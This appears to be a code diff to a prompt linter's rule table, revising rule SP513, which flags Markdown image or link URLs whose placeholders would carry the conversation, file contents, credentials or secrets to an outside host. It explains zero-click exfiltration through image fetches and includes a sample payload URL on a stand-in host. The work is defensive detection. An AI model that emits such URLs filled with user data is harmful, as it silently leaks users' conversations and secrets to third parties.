@@ -703,14 +703,19 @@ _RULES: tuple[Rule, ...] = (
     ),
     _r(
         "SP513", "exfiltration-url", ERROR,
-        "A Markdown image or link's URL carries the conversation, files or secrets in a "
-        "placeholder.",
+        "A Markdown image or link's URL carries the conversation, files' contents or "
+        "secrets in a placeholder.",
         "A model asked to fill in ![](https://host/p.png?d={conversation}) sends the "
         "conversation to that host, and an image is fetched as soon as it is shown, "
         "without a click (zero-click exfiltration). Placeholders ({name}, {{name}}, "
-        "<name>, [NAME], $NAME, UPPER_CASE) naming the conversation, its history, a "
-        "summary, files, their contents, the environment, cookies, credentials or "
-        "secrets are reported; in an image, tokens and keys too.",
+        "<name>, [NAME], $NAME, UPPER_CASE) whose words name content are reported: the "
+        "conversation, chat, history, messages, a transcript, the prompt, context, a "
+        "summary, memory, file contents, the environment, cookies, credentials, "
+        "passwords or secrets; in an image, tokens and keys too. A placeholder that names "
+        "an identifier is an API reference, not data, and is not reported: a last word "
+        "id, name, path, url, uri, page, limit, offset, count or version "
+        "(/v1/files/{file_id}/content, /conversations/{conversation_id}, "
+        "?path={file_path}, /templates/{filename}).",
         "![status](https://img.example.invalid/p.png?q={conversation_summary})",
         "Remove the placeholder; link to a fixed URL.",
     ),
